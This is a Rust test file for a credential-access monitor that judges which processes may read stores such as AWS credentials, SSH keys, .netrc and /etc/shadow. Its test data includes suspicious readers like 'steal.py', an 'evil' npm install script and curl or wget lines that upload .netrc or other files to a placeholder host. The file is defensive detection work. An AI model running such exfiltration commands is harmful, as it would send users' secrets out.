use std::path::PathBuf;

use tokenhound_common::{process::ProcessKey, record::FileId};

use super::*;
use crate::{
    catalogue::{
        Catalogue,
        tests::{GOOD, shipped_catalogue},
    },
    ingest::observation::KernelTime,
    lineage::{
        model::{Executable, Origin},
        package::{
            Integrity, Owner, Owners,
            installed::{Installed, Manager, Named},
        },
    },
};

const NO: Writable = Writable::No;
const YES: Writable = Writable::Yes;
const HOME: &str = "/home/ann";

/// A process that runs `path`.
pub(crate) fn program(path: &str, writable: Writable) -> Process {
    Process {
        key: ProcessKey::new(1, 1),
        parent: None,
        executable: Executable {
            path: PathBuf::from(path),
            path_truncated: false,
            id: FileId::default(),
            uid: 0,
            mode: 0o100_755,
            links: 1,
            writable,
        },
        script: None,
        args: Vec::new(),
        args_truncated: false,
        cwd: None,
        environment: Vec::new(),
        comm: String::new(),
        uid: 1000,
        euid: 1000,
        gid: 1000,
        login_uid: None,
        audit_session: None,
        session: 0,
        tty: None,
        mount_namespace: 0,
        pid_namespace: 0,
        cgroup: 0,
        container: None,
        unit: None,
        owners: None,
        since: KernelTime(0),
        exited: None,
        origin: Origin::Observed,
    }
}

fn script(interpreter: &str, path: &str, writable: Writable) -> Process {
    script_in((interpreter, NO), path, writable)
}

fn script_in((interpreter, trusted): (&str, Writable), path: &str, writable: Writable) -> Process {
    let script = Some(Script::File { path: PathBuf::from(path), writable });
    Process { script, ..program(interpreter, trusted) }
}

fn running(script: Script, interpreter: &str) -> Process {
    Process { script: Some(script), ..program(interpreter, NO) }
}

fn judged(store: &str, reader: &Process) -> Expectation {
    let catalogue = shipped_catalogue();
    let store = catalogue.store(store).unwrap_or_else(|| panic!("no store {store}"));
    expectation(store, reader, Some(Path::new(HOME)), catalogue.interpreters())
}

#[test]
fn the_right_programs_are_expected() {
    let python = "/usr/bin/python3.11";
    let node = "/usr/bin/node";
    let pyenv = ("/home/ann/.pyenv/versions/3.12.1/bin/python3.12", YES);
    let nvm = ("/home/ann/.nvm/versions/node/v20.1.0/bin/node", YES);
    for (store, reader) in [
        ("aws-credentials", program("/usr/local/aws-cli/v2/2.15.0/dist/aws", NO)),
        ("aws-credentials", program("/home/ann/.local/bin/aws", YES)),
        ("aws-credentials", script(python, "/usr/bin/aws", NO)),
        ("aws-credentials", script(python, "/home/ann/.local/bin/aws", YES)),
        ("aws-credentials", script(python, "/srv/p/.venv/bin/aws", NO)),
        ("aws-credentials", script(python, "/opt/tools/bin/aws", NO)),
        ("aws-credentials", script_in(pyenv, "/home/ann/.pyenv/versions/3.12.1/bin/aws", YES)),
        ("npm-npmrc", script(node, "/home/ann/.npm-global/lib/node_modules/npm/bin/npm-cli.js", YES)),
        ("aws-cli-cache", script(python, "/usr/bin/aws", NO)),
        ("aws-credentials", program("/usr/bin/terraform", NO)),
        ("aws-credentials", program("/home/ann/.asdf/installs/terraform/1.5/bin/terraform", YES)),
        ("aws-credentials", program("/home/ann/p/.terraform/providers/x/terraform-provider-aws_v5.1_x5", YES)),
        ("git-credentials", program("/usr/lib/git-core/git-credential-store", NO)),
        ("git-credentials", program("/usr/lib/git-core/git", NO)),
        ("git-credentials", program("/usr/bin/git", NO)),
        ("netrc", program("/usr/lib/git-core/git-remote-http", NO)),
        ("git-config-embedded", program("/usr/bin/git", NO)),
        ("ssh-private-keys", program("/usr/bin/ssh", NO)),
        ("ssh-private-keys", program("/usr/bin/ssh-add", NO)),
        ("ssh-private-keys", program("/usr/bin/ssh-keygen", NO)),
        ("docker-config", program("/usr/bin/docker", NO)),
        ("docker-config", program("/usr/libexec/docker/cli-plugins/docker-buildx", NO)),
        ("npm-npmrc", script(node, "/usr/lib/node_modules/npm/bin/npm-cli.js", NO)),
        ("npm-npmrc", script(node, "/usr/bin/npm", NO)),
        ("npm-npmrc", script("/usr/bin/nodejs", "/usr/share/nodejs/npm/bin/npm-cli.js", NO)),
        ("npm-npmrc", script_in(nvm, "/home/ann/.nvm/versions/node/v20.1.0/bin/npm", YES)),
        ("npm-npmrc", script_in(nvm, "/home/ann/.nvm/versions/node/v20.1.0/lib/node_modules/npm/bin/npm-cli.js", YES)),
        ("gh-hosts", program("/usr/bin/gh", NO)),
        ("etc-shadow", program("/usr/sbin/sshd", NO)),
        ("etc-shadow", program("/usr/bin/sudo", NO)),
        ("etc-shadow", program("/usr/bin/su", NO)),
        ("etc-shadow", program("/usr/sbin/unix_chkpwd", NO)),
        ("etc-shadow", program("/usr/sbin/cron", NO)),
        ("etc-shadow", program("/usr/bin/passwd", NO)),
        ("etc-shadow", program("/usr/lib/systemd/systemd", NO)),
        ("etc-shadow", program("/usr/lib/systemd/systemd-executor", NO)),
        ("etc-shadow", script("/usr/bin/perl", "/usr/sbin/adduser", NO)),
        ("npm-npmrc", program("/home/ann/.bun/bin/bun", YES)),
        ("gcloud-credentials-db", script(python, "/usr/lib/google-cloud-sdk/lib/gcloud.py", NO)),
        ("claude-code", program("/home/ann/.local/share/claude/versions/2.0.14", YES)),
        ("pgpass", program("/usr/lib/postgresql/15/bin/psql", NO)),
        ("azure-msal-token-cache", running(Script::Module("azure.cli".into()), "/opt/az/bin/python3.11")),
    ] {
        let judged = judged(store, &reader);
        assert!(judged.expected(), "{store}: {:?} {:?}: {judged:?}", reader.executable.path, reader.script);
    }
}

#[test]
fn everybody_else_is_not_and_is_told_why() {
    let python = "/usr/bin/python3.11";
    let node = "/usr/bin/node";
    let brought = ("/home/ann/x/python3", YES);
    for (store, reader, why) in [
        ("aws-credentials", program("/usr/bin/cat", NO), "copy_tool"),
        ("aws-credentials", program("/usr/bin/cp", NO), "copy_tool"),
        ("aws-credentials", program("/usr/bin/tar", NO), "copy_tool"),
        ("ssh-private-keys", program("/usr/bin/rsync", NO), "copy_tool"),
        ("etc-shadow", program("/usr/bin/cp", NO), "copy_tool"),
        ("aws-credentials", program("/bin/busybox", NO), "copy_tool"),
        ("aws-credentials", script(python, "/home/ann/steal.py", YES), "weak_reader"),
        ("aws-cli-cache", script(python, "/home/ann/steal.py", YES), "script_not_listed"),
        ("git-credentials", script(node, "/home/ann/p/node_modules/evil/install.js", YES), "script_not_listed"),
        ("npm-npmrc", script(node, "/home/ann/p/node_modules/evil/install.js", YES), "weak_reader"),
        ("npm-npmrc", script(node, "/home/ann/p/node_modules/.bin/evil", YES), "weak_reader"),
        ("npm-npmrc", script("/usr/bin/bun", "/home/ann/p/evil.js", YES), "script_not_listed"),
        ("npm-npmrc", program("/tmp/bun", YES), "writable_place"),
        ("nuget-config", program("/usr/bin/dotnet", NO), "inline_code"),
        ("maven-settings", script("/usr/bin/java", "/x/maven/../../tmp/evil.jar", YES), "weak_reader"),
        ("aws-credentials", program("/usr/bin/bash", NO), "inline_code"),
        ("etc-shadow", running(Script::Inline, "/usr/bin/dash"), "inline_code"),
        ("aws-cli-cache", running(Script::Inline, python), "inline_code"),
        ("aws-cli-cache", running(Script::Module("http.server".into()), python), "script_not_listed"),
        ("aws-credentials", program("/usr/bin/my-aws-copy", NO), "not_listed"),
        ("aws-credentials", program("/home/ann/aws", YES), "writable_place"),
        ("aws-credentials", program("/home/ann/bin/aws", YES), "writable_place"),
        ("aws-credentials", program("/home/bob/.local/bin/aws", YES), "writable_place"),
        ("aws-credentials", program("/tmp/terraform", YES), "writable_place"),
        ("aws-credentials", program("/x/terraform", Writable::Unknown), "place_unknown"),
        ("aws-credentials", script(python, "/tmp/aws", YES), "writable_place"),
        // Listed wherever they lie, where anybody can put one.
        ("aws-credentials", script(python, "/tmp/venv/bin/aws", YES), "writable_place"),
        ("aws-credentials", script(python, "/home/ann/p/.venv/bin/aws", YES), "own_place"),
        ("npm-npmrc", script(node, "/home/ann/p/npm/bin/npm-cli.js", YES), "own_place"),
        ("aws-credentials", script_in(brought, "/usr/bin/aws", NO), "interpreter_writable"),
        ("aws-credentials", script("/lib64/ld-linux-x86-64.so.2", "/tmp/aws", YES), "writable_place"),
        ("aws-credentials", program("", Writable::Unknown), "not_listed"),
        ("pgpass", program("/usr/bin/some-tool", NO), "not_listed"),
        ("gnupg-private", program("/usr/bin/gpg", NO), "indirect"),
        ("netrc", program("/usr/bin/curl", NO), "copy_tool"),
        ("container-run-secrets", program("/app/server", YES), "contextual"),
        ("kwallet", program("/usr/bin/evil", NO), "not_listed"),
    ] {
        match judged(store, &reader) {
            Expectation::NotExpected { why: given } => {
                assert_eq!(given.name(), why, "{store}: {:?} {:?}: {given}", reader.executable.path, reader.script);
            }
            Expectation::Expected { why, .. } => panic!("{store}: {:?} is expected: {why}", reader.executable.path),
        }
    }
}

#[test]
fn one_of_the_stores_that_share_a_file_is_enough() {
    let catalogue = shipped_catalogue();
    let stores: Vec<_> = ["netrc", "heroku"].iter().filter_map(|id| catalogue.store(id)).collect();
    let heroku = script("/usr/bin/node", "/usr/lib/node_modules/heroku/bin/run", NO);
    assert!(catalogue.expectation(&stores, &heroku, None).expected());
    let other = script("/usr/bin/node", "/usr/lib/node_modules/other/bin/run", NO);
    assert!(!catalogue.expectation(&stores, &other, None).expected());
}

#[test]
fn a_java_program_is_known_by_its_class_path() {
    let java = |class_path: &str| Process {
        args: ["java", "-cp", class_path, "org.codehaus.Main"].map(str::to_owned).to_vec(),
        script: Some(Script::Module("org.codehaus.Main".into())),
        ..program("/usr/lib/jvm/java-17/bin/java", NO)
    };
    let maven = "/usr/share/maven/boot/plexus-classworlds-2.6.0.jar";
    assert!(judged("maven-settings", &java(maven)).expected());
    assert!(!judged("maven-settings", &java(&format!("/tmp/evil.jar:{maven}"))).expected());
}

#[test]
fn the_readers_own_home_counts_and_no_other() {
    let catalogue = shipped_catalogue();
    let store = catalogue.store("aws-credentials").unwrap();
    let reader = program("/home/ann/.local/bin/aws", YES);
    let of = |home| expectation(store, &reader, home, catalogue.interpreters());
    assert!(of(Some(Path::new("/home/ann"))).expected());
    assert!(!of(Some(Path::new("/root"))).expected());
    assert!(!of(None).expected());
}

/// A store of our own whose reader is known by its package.
#[test]
fn a_package_stands_for_a_place_that_only_root_can_write() {
    let file = tempfile::Builder::new().suffix(".yaml").tempfile().unwrap();
    let text = GOOD.replace("exe: [example]", "package: [own-tools]");
    std::fs::write(file.path(), text).unwrap();
    let (loaded, _) = Catalogue::with_file(file.path()).unwrap_or_else(|problems| panic!("{problems}"));
    let catalogue = loaded.catalogue;
    assert!(catalogue.names_packages() && !shipped_catalogue().names_packages());
    let package = |name: &str, integrity| Owner::Package { name: name.to_owned(), integrity };
    let owned = |reader: Process, executable: Owner, script: Option<Owner>| Process {
        owners: Some(Box::new(Owners { executable, script })),
        ..reader
    };
    let nobody = |installed| Owner::Nobody { digest: None, installed };
    let stated = Some(Installed {
        by: Manager::Pip,
        package: Named::new("own-tools", "1").unwrap(),
        record: "/usr/lib/python3.11/site-packages/own_tools-1.dist-info/RECORD".into(),
        record_writable: NO,
        integrity: Integrity::Intact,
    });
    let (own, python) = (package("own-tools", Integrity::Intact), package("python3", Integrity::Intact));
    let tool = || program("/usr/bin/anything", NO);
    let in_python = |writable| script("/usr/bin/python3.11", "/usr/bin/own", writable);
    for (name, reader, expected) in [
        ("its program", owned(tool(), own.clone(), None), true),
        ("not checked yet", owned(tool(), package("own-tools", Integrity::Unknown), None), true),
        ("changed", owned(tool(), package("own-tools", Integrity::Changed), None), false),
        ("where its user can write", owned(program("/usr/bin/anything", YES), own.clone(), None), false),
        ("another package", owned(tool(), package("own-tools-extra", Integrity::Intact), None), false),
        ("no package", owned(tool(), nobody(None), None), false),
        ("a record's word", owned(tool(), nobody(stated.clone()), None), false),
        ("a record's word for its script", owned(in_python(NO), python.clone(), Some(nobody(stated))), false),
        ("not known in time", owned(tool(), Owner::Unknown, None), false),
        ("not asked", tool(), false),
        ("its script", owned(in_python(NO), python.clone(), Some(own.clone())), true),
        ("its script, which its user can write", owned(in_python(YES), python.clone(), Some(own.clone())), false),
        ("a script of nobody", owned(in_python(NO), own.clone(), Some(nobody(None))), false),
        ("an interpreter of nobody", owned(in_python(NO), nobody(None), Some(own.clone())), false),
        ("code", owned(running(Script::Inline, "/usr/bin/python3"), own.clone(), Some(Owner::Unknown)), false),
        ("a copy tool of it", owned(program("/usr/bin/cat", NO), own, None), false),
    ] {
        let store = catalogue.store("example").unwrap();
        let answer = super::expectation(store, &reader, Some(Path::new(HOME)), catalogue.interpreters());
        assert_eq!(answer.expected(), expected, "{name}: {answer:?}");
    }
}

/// What looks into the file by itself and could also send it is told by its arguments.
#[test]
fn arguments_take_back_what_the_name_says() {
    for (line, expected) in [
        ("curl --netrc https://example.invalid/", true),
        ("curl -s -n https://example.invalid/", true),
        ("curl https://example.invalid/", false),
        ("curl -n -d @/home/ann/.netrc https://example.invalid/", false),
        ("curl -n -T /home/ann/x https://example.invalid/", false),
        ("curl -nsT /home/ann/x https://example.invalid/", false),
        ("curl -n --upload /home/ann/x https://example.invalid/", false),
        ("curl -n file:///home/ann/x", false),
        ("curl -n --config x", false),
        ("wget https://example.invalid/my-image.iso", true),
        ("wget --post-data=x https://example.invalid/", true),
        ("wget --post-f=/home/ann/x https://example.invalid/", false),
        ("wget -qi /home/ann/x", false),
        ("wget https://example.invalid/.netrc", false),
        ("fetchmail --check", true),
        ("fetchmail -f .netrc", false),
    ] {
        let name = line.split(' ').next().unwrap_or_default();
        let mut reader = program(&format!("/usr/bin/{name}"), NO);
        reader.args = line.split(' ').map(str::to_owned).collect();
        assert_eq!(judged("netrc", &reader).expected(), expected, "{line}");
        reader.args_truncated = true;
        assert!(!judged("netrc", &reader).expected(), "{line}, and more");
    }
}
